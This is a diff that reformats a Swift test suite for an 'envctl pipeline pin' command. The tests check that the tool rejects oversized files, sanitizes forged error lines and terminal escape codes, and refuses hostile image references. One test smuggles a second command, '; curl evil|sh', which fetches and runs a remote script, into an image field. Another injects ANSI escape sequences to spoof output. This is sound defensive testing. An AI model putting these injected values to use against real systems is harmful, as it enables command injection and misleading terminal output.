@@ -82,7 +82,8 @@ struct PipelineHostileInputTests {
         let r = try runProcess(RepoPaths.envctlBinary, ["pipeline", "pin", "huge.yaml"], cwd: ws.path)
         #expect(r.status == 64)
         #expect(
-            r.stderr.contains("cannot read pipeline file 'huge.yaml': it is larger than 64 MiB, the limit for a compiled pipeline"),
+            r.stderr.contains(
+                "cannot read pipeline file 'huge.yaml': it is larger than 64 MiB, the limit for a compiled pipeline"),
             "\(r.stderr)")
     }
 
@@ -90,11 +91,13 @@ struct PipelineHostileInputTests {
         let (ws, _, text) = try compiled()
         defer { ws.cleanup() }
         let hostile = text.replacingOccurrences(
-            of: "image: registry.example.com/team/train:v1", with: "image: registry.example.com/team/train:v1; curl evil|sh")
+            of: "image: registry.example.com/team/train:v1",
+            with: "image: registry.example.com/team/train:v1; curl evil|sh")
         #expect(hostile != text)
         let r = try pin(hostile, in: ws)
         #expect(r.status == 64, "\(r.stderr)")
-        #expect(r.stderr.contains("hostile.yaml: executor exec-train: the image is not a valid reference"), "\(r.stderr)")
+        #expect(
+            r.stderr.contains("hostile.yaml: executor exec-train: the image is not a valid reference"), "\(r.stderr)")
         #expect(r.stderr.contains("[invalid-reference]"), "\(r.stderr)")
         #expect(!FileManager.default.fileExists(atPath: ws.path + "/out.yaml"))
     }
@@ -110,10 +113,13 @@ struct PipelineHostileInputTests {
         #expect(r.status == 64, "\(r.stderr)")
         #expect(!r.stderr.contains("\nerror: forged"), "\(r.stderr)")
         #expect(!r.stderr.utf8.contains(0x1B) && !r.stderr.utf8.contains(0))
-        #expect(r.stderr.contains(#"exec-notify\nerror: forged\u{1B}[2J\u{0}: docker.io/library/busybox:1.36"#), "\(r.stderr)")
+        #expect(
+            r.stderr.contains(#"exec-notify\nerror: forged\u{1B}[2J\u{0}: docker.io/library/busybox:1.36"#),
+            "\(r.stderr)")
 
         let image = text.replacingOccurrences(
-            of: "image: docker.io/library/busybox:1.36", with: #"image: "docker.io/library/busybox:1.36\nerror: all pinned\e]0;x\a""#)
+            of: "image: docker.io/library/busybox:1.36",
+            with: #"image: "docker.io/library/busybox:1.36\nerror: all pinned\e]0;x\a""#)
         #expect(image != text)
         let i = try pin(image, in: ws)
         #expect(i.status == 64, "\(i.stderr)")
